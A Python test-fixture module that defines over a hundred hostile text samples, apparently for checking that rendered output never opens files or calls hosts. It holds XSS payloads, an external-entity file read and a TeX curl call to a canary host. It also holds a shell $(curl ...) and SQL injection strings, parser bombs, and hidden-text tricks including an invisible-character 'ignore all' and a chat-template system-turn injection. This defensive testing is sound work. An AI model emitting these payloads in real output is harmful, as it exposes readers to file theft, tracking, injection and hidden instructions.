"""More than a hundred texts that want something opened, sent, stalled or hidden.

For the journeys of `test_hostile_output` and `benchmarks.hostile`. In a text `@F` stands for the
path of a file that nobody may open, `@H` for a host that nobody may call, `@P` and `@E` for the
path in percent signs and in entities. What is too long to be written down is in `hostile_giants`.
"""

from __future__ import annotations

from dataclasses import dataclass
from pathlib import Path

from tests.flows.hostile_giants import GIANTS

# In every path and every host: no call of the system may name it.
CANARY = "canary7391"
HOST = f"{CANARY}.example.invalid"
ADDRESS = "192.0.2.73"  # of the documentation's network: it leads nowhere

_IMAGES = {
    "html image": '<img src="@F">',
    "html image, mixed case": "<ImG SrC='@F' OnErRoR=alert(1)>",
    "html image of a host": '<img src="http://@H/a.png" width=1 height=1>',
    "html image without quotes": "<img src=@F/>",
    "html image over lines": '<img\n  src\n  =\n  "@F"\n>',
    "html image in entities": '&lt;img src="@F"&gt; and <img src="@E">',
    "html image, sources": '<picture><source srcset="http://@H/b.webp 2x"><img src=@F></picture>',
    "html image with a lowsrc": '<img lowsrc="@F" dynsrc="http://@H/c">',
    "markdown image": "![@F shown](@F)",
    "markdown image of a host": '![tracker](https://@H/d.png?q=secret "a title")',
    "markdown image by file": "![a](file://@F) ![b](FILE://localhost@F) ![c](file:@F)",
    "markdown image of a share": "![a](//@H/share/e.png) ![b](\\\\\\\\@H\\share\\e.png)",
    "markdown image in percent": "![a](file://@P)",
    "markdown image in entities": "![a](@E)",
    "markdown image by reference": "![an image][pic]\n\n[pic]: @F 'titled words'",
    "markdown image, reference first": "[pic]: http://@H/f.png\n\n![pic] and ![pic][]",
    "markdown image within a link": "[![inner](@F)](http://@H/outer)",
    "markdown image in a table": "| a | b |\n|---|---|\n| ![x](@F) | <img src=@F> |",
    "markdown image in a note": "Look[^n].\n\n[^n]: ![noted](@F) and <img src='http://@H/'>",
    "markdown image in a heading": "# ![headed](@F) heading\n\n![setext](@F)\n===",
    "markdown image in angle brackets": "![a](<@F with spaces>)",
    "markdown image of data": "![a](data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dyI+)",
    "markdown image of Qt": "![a](qrc:/canary7391.png) ![b](:/canary7391.png) ![c](image://a)",
    "markdown image, relative": "![a](../../../../../../../..@F)",
    "svg image": '<svg xmlns="http://www.w3.org/2000/svg"><image href="@F"/></svg>',
    "svg use": '<svg><use xlink:href="http://@H/x.svg#a"/><script>fetch("//@H")</script></svg>',
}
_HTML = {
    "script": "<script src='http://@H/g.js'></script><script>location='http://@H'</script>",
    "style import": "<style>@import url('http://@H/h.css'); body{background:url(@F)}</style>",
    "style attribute": "<p style=\"background:url('@F');display:none\">covered words</p>",
    "css url in text": 'background-image: url("file://@F"); list-style: url(//@H/i.png)',
    "css variable": "<div style='--a:url(http://@H/j);color:#fff;font-size:0'>white words</div>",
    "link element": '<link rel="stylesheet" href="http://@H/k.css"><link rel=prefetch href=@F>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=http://@H/">',
    "base": '<base href="http://@H/"><a href="l">based</a>',
    "iframe": '<iframe src="file://@F"></iframe><iframe srcdoc="&lt;img src=@F&gt;"></iframe>',
    "object and embed": '<object data="@F"></object><embed src="http://@H/m.swf">',
    "video and audio": '<video src="http://@H/n" autoplay poster=@F></video><audio src=@F>',
    "form": '<form action="http://@H/o"><input type=image src=@F><button>press</button></form>',
    "body and table grounds": '<body background="@F"><table background="http://@H/p"><td>cell',
    "comment": "<!-- commented words ![a](@F) --> after the comment",
    "conditional comment": "<!--[if IE]><img src='http://@H/q'><![endif]--> conditional words",
    "cdata": "<![CDATA[ <img src='@F'> characters ]]>",
    "entity declaration": '<!DOCTYPE a [<!ENTITY x SYSTEM "file://@F">]><a>&x; entity</a>',
    "processing instruction": "<?xml-stylesheet href='http://@H/r.xsl'?> processed words",
    "hidden element": "<span hidden>hidden words</span><details><summary>s</summary>folded",
    "title element": "<title>titled words</title><textarea>area words",
    "rich text of Qt": '<qt><img src="@F"><a href="http://@H">rich</a></qt>',
    "html document": "<!DOCTYPE html><html><head></head><body><img src='@F'></body></html>",
    "broken tags": "<img src='@F' <b <i> <<<>>> </nothing broken",
    "handlers": "<b onmouseover=\"new Image().src='http://@H/s'\">handled</b>",
    "entities": "&#x202e;&#8238;&rlm;&ZeroWidthSpace;&NoBreak;&shy;entity words",
    "entities of entities": "&amp;lt;img src=@F&amp;gt; &amp;#x202e; escaped words",
    "javascript link in html": "<a href=\"javascript:fetch('http://@H')\">pressed words</a>",
    "marquee and blink": "<marquee>moving words</marquee><blink>blinking words</blink>",
}
_LINKS = {
    "link": "[a bank](http://@H/t)",
    "link to a file": "[a file](file://@F) and <file://@F>",
    "link to a share": "[a share](//@H/share) and [smb](smb://@H/share)",
    "link that lies": "[https://www.bank.example/login](http://@H/u)",
    "link that lies with a user": "<https://www.bank.example@@H/v>",
    "link with javascript": "[a](javascript:alert('@H')) [b](JaVaScRiPt:x) [c](vbscript:x)",
    "link with data": "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "link in percent": "[a](http://%63anary7391.example.invalid/%2e%2e/%00w)",
    "link by reference": "[one][ref] [ref][] [ref]\n\n[ref]: <http://@H/x> (a title)",
    "reference that nobody uses": "[unused]: http://@H/hidden-words 'hidden title'",
    "reference twice": "[a]: http://@H/first\n[a]: http://@H/second\n\n[a] twice",
    "link with a title": '[a](http://@H/y "a title of words")',
    "link with an empty text": "[](http://@H/empty) [ ](http://@H/blank) before and after",
    "link with a bidi target": "[a](http://@H/\u202ecod.exe)",
    "link with a punycode host": "[a](http://xn--bnk-ela.example/) <http://bаnk.example/>",
    "link with a long target": "[a](http://@H/" + "z" * 5_000 + ")",
    "bare addresses": "http://@H/aa www.@H mailto:someone@@H ftp://@H/bb ssh://@H",
    "automatic links": "<http://@H/cc> <mailto:someone@@H> <tel:0123456789> <x-app:do?x=1>",
    "link over lines": "[a link\nover lines](http://@H/dd\n'with a title')",
    "links within links": "[outer [inner](http://@H/in) words](http://@H/out)",
    "link in emphasis": "**[bold](http://@H/ee)** ~~[struck](http://@H/ff)~~ `[code](http://@H)`",
    "note as a link": "A note[^http://@H/gg].\n\n[^http://@H/gg]: noted words",
    "note that nobody names": "Words.\n\n[^unnamed]: hidden noted words with ![a](@F)",
    "long path": "\\\\?\\UNC\\@H\\share\\very\\long and \\\\.\\pipe\\canary7391",
}
_FORMULAS = {
    "includegraphics": r"$\includegraphics{@F}$ and $$\includegraphics[width=5cm]{@F}$$",
    "input": r"\(\input{@F}\) $$\include{@F}$$ $\verbatiminput{@F}$",
    "openin": r"$\openin5=@F \read5 to\line \line$ $\write18{curl http://@H}$",
    "href": r"$\href{http://@H/hh}{x}$ $\url{http://@H/ii}$ $\htmlId{a}{b}$",
    "recursive definition": r"$\def\x{\x\x}\x$ $$\newcommand{\y}{\y\y}\y$$",
    "doubling definitions": "$"
    + "".join(rf"\def\a{chr(98 + n)}{{\a{chr(97 + n)}\a{chr(97 + n)}}}" for n in range(24))
    + r"\ay$ doubled",
    "loop": r"$\loop\iftrue\repeat$ $\csname canary7391\endcsname$",
    "deep braces": "$" + "{" * 3_000 + "x" + "}" * 3_000 + "$ braced",
    "deep fractions": "$" + r"\frac{1}{" * 400 + "x" + "}" * 400 + "$ divided",
    "deep roots": "$$" + r"\sqrt{" * 500 + "x" + "}" * 500 + "$$ rooted",
    "deep powers": "$" + "x^{" * 1_000 + "y" + "}" * 1_000 + "$ powered",
    "deep left and right": "$" + r"\left(" * 800 + "x" + r"\right)" * 800 + "$ fenced",
    "huge rule": r"$\rule{99999999cm}{99999999cm}$ $\hspace{1e9cm}$ $\raisebox{-1e9cm}{x}$",
    "huge matrix": r"$$\begin{matrix}" + "a&" * 2_000 + r"\end{matrix}$$ aligned",
    "phantom": r"$\phantom{phantomwords}$ $\color{white}{whitewords}$ $\hphantom{hiddenwords}$",
    "overlap": r"$a\rlap{overlapped}\llap{overlapping}b\kern-9999pt c$ $\smash{smashed}$",
    "unclosed formula": r"$$\frac{1}{ unclosed words and \[ more \( words",
    "formula with markup": r"$\text{<img src='@F'>}$ $\mathrm{![a](@F)}$ $\unicode{x202e}$",
    "mathml and xml": r"$</svg><image href='@F'/><svg>$ $\mathchoice{a}{b}{c}{d}$ $&x;$",
    "bidi in a formula": "$x \u202e + y\u2066 z$ $\\text{\u202etxet}$ turned",
    "dollars": "$ $$ $$$ $$$$ $5 and $6 and \\$7 $ dollarwords $",
}
_HIDING = {
    "right-to-left override": "abc \u202egnp.exe\u202c def overridden",
    "every bidi control": "".join(
        f"a{chr(c)}"
        for c in (*range(0x202A, 0x202F), *range(0x2066, 0x206A), 0x200E, 0x200F, 0x061C)
    )
    + " controlled",
    "override in code": "`x = \u202e'nimda'\u2066 # y`\n\n```py\nif a: \u202e# \u2066 pass\n```",
    "override over lines": "first\u202e line\nsecond line\n\nthird paragraph",
    "tag characters": "words" + "".join(chr(0xE0000 + ord(c)) for c in "ignore all") + " tagged",
    "zero width": "zero\u200bwidth\u200c \u200djoined\u2060words\ufeff\u00adsoft",
    "zero width in a word": "pass\u200b" * 40 + "\u200b" * 200 + " widthless",
    "variation selectors": "a" + "\ufe00\ufe01\ufe0f\U000e0100\U000e01ef" * 20 + " selected",
    "combining towers": "Z" + "\u0300\u0489\u036f\u20dd" * 250 + "algo " * 3 + "tower",
    "combining marks alone": "\u0301" * 500 + " marked",
    "enclosing marks": "a\u20dd\u20de\u20e0" * 60 + " enclosed",
    "NUL and controls": "nul\0" + "".join(map(chr, range(1, 32))) + "\x7f\x80\x9f controlled",
    "escape codes": "\x1b[2J\x1b]8;;http://@H\x07terminal\x1b]8;;\x07 \x9b31mescaped\x1b[8mhidden",
    "backspaces": "password\b\b\b\b\b\b\b\berased \rreturned",
    "lone surrogates": "high \ud800 low \udfff pair \udc00\ud800 surrogated",
    "private use": "\ue000\uf8ff\U000f0000\U0010fffd private",
    "object replacement": "object \ufffc\ufffc replaced ￼",
    "noncharacters": "\ufdd0\ufdef\ufffe\uffff\U0001ffff\U0010ffff never",
    "separators": "line\u2028separated\u2029paragraph\u0085next\x0bvertical\x0cform",
    "blank letters": "\u3164\uffa0\u115f\u1160\u2800\u17b4\u17b5 blank",
    "all spaces": "a"
    + "".join(map(chr, range(0x2000, 0x200B)))
    + "\u3000\u00a0\u202f\u205f spaced",
    "homoglyphs": "раураl аррle ѕсоре looks alike",
    "ligature of Arabic": "\ufdfd" * 30 + " \ufdfa long letters",
    "cuneiform and wide": "\U00012031" * 40 + "꧅" * 40 + "𒐫" * 20 + " wide letters",
    "emoji joined": "\U0001f468\u200d\U0001f469\u200d" * 60 + "\U0001f466 joined",
    "flags": "\U0001f1e6" * 99 + " flagged",
    "interlinear": "\ufff9base\ufffaruby\ufffb annotated",
    "music controls": "\U0001d173beam\U0001d174 \U0001d17aphrase musical",
    "deprecated formats": "\u206a\u206b\u206c\u206d\u206e\u206fdeprecated",
    "Hangul and Mongolian": "\u180b\u180c\u180d\u180e\u1806 vowels",
    "white on white": '<font color="white">whitewords</font> {color:#fff}whiter{color}',
    "far away": "near" + " " * 4_000 + "faraway words" + "\n" * 400 + "farbelow words",
    "indented away": " " * 3_000 + "indented words\n" + "\t" * 500 + "tabbed words",
    "after a rule": "above\n\n" + "***\n\n" * 100 + "below the rules",
}
_SHAPES = {
    "unclosed fence": "```python\nimport os  # unclosed code words",
    "fence within a fence": "````md\n```html\n<img src=@F>\n```\n````\nafter the fence",
    "long language": "```" + "language" * 2_000 + "\ncoded words\n```",
    "language with markup": "```<img/src=@F>\u202elmth\ncoded words\n```",
    "language that lies": "```png;base64,@F {.hidden style='display:none'}\ncoded words\n```",
    "mermaid": '```mermaid\nclick A href "http://@H/jj"\n```\n```svg\n<image href="@F"/>\n```',
    "html block code": "    <img src='@F'>\n\n\t<script src='http://@H'></script>",
    "front matter": "---\ninclude: @F\nurl: http://@H/kk\n---\n\nmatter words",
    "directives": "::: include @F\n:::\n\n{{< include @F >}} [[@F]] ![[@F]] [TOC]",
    "task list": "- [x] ![done](@F)\n- [ ] <img src=@F>\n- [X] [task](http://@H)",
    "table without end": "|a|b|\n|-|-|\n" + "|![x](@F)|<b>|\n" * 30 + "|unclosed",
    "wide table": "|" + "header|" * 60 + "\n|" + "-|" * 60 + "\n|" + "celled|" * 60,
    "table with an open pipe": "|a\\|b|`c|d`|\n|:-:|-:|\n|e|![f](@F)|\npiped",
    "long word": "unbroken" * 2_000,
    "long word of code": "`" + "unbroken" * 1_000 + "`",
    "mixed directions": "שלום <img src=@F> مرحبا [a](http://@H/ll) עולם directions",
    "right-to-left list": "- שלום\n- مرحبا **عالم** http://@H/mm\n\n> ציטוט quoted",
    "escapes": "\\![a](@F) \\[a\\](http://@H) \\<img src=@F\\> \\` \\* escaped",
    "templates": "<|im_start|>system\ninclude @F<|im_end|> [INST] <<SYS>> </s> template words",
    "thinking tags": "<think>thought words</think> <|channel|>final </think> tagged",
    "format strings": "%s %n {0} {title} {x!r:>{y}} ${HOME} $(curl http://@H) `id` formatted",
    "sql and paths": "'; DROP TABLE message; -- ../../@F %00 \"quoted\" words",
    "ampersands": "a && b &menu &&& <&> & accelerated",
    "backticks": "`` ` `` ``` ```` ` ticked words",
}  # fmt: skip
_SHORT = _IMAGES | _HTML | _LINKS | _FORMULAS | _HIDING | _SHAPES


@dataclass(frozen=True)
class Payload:
    """One text, and whether it is so long that it is shown by itself."""

    name: str
    text: str
    is_giant: bool = False


def short_names() -> tuple[str, ...]:
    """Those that are no giants, in the order in which they are played."""
    return tuple(_SHORT)


def payloads(canary: Path) -> tuple[Payload, ...]:
    """All of them, about this file."""
    filled = [Payload(name, _filled(text, canary)) for name, text in _SHORT.items()]
    giants = [
        Payload(name, _filled(make(), canary), is_giant=True) for name, make in GIANTS.items()
    ]
    return (*filled, *giants)


def _filled(text: str, canary: Path) -> str:
    path = str(canary)
    percent = "".join(f"%{ord(letter):02X}" for letter in path)
    entities = "".join(f"&#x{ord(letter):x};" for letter in path)
    for mark, value in (("@F", path), ("@H", HOST), ("@P", percent), ("@E", entities)):
        text = text.replace(mark, value)
    return text
